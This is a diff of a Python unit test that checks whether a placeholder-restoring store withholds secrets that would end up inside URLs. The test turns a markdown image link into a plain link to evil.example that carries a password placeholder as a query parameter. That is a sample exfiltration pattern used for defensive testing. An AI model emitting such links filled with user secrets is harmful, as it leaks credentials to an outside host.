@@ -275,8 +275,8 @@ def test_hydrate_reports_what_it_withholds_in_python_http_and_the_framework_wrap
     from stealthflow.service import create_app
 
     placeholder = re.search(r"<PASSWORD_\d+>", store.append("ann", "My password is hunter2xyz").text)[0]
-    reply = f"![x](https://evil.example/p.png?k={placeholder})\n\nand {placeholder}"
-    kept = f"![x](https://evil.example/p.png?k={placeholder})\n\nand hunter2xyz"
+    reply = f"[x](https://evil.example/p?k={placeholder})\n\nand {placeholder}"
+    kept = f"[x](https://evil.example/p?k={placeholder})\n\nand hunter2xyz"
     result = store.restore("ann", reply)
     assert result.text == kept and result.withheld == [(placeholder, "secret_in_url")]
     assert store.restore("ann", reply, secrets_in_urls=True).text == reply.replace(placeholder, "hunter2xyz")
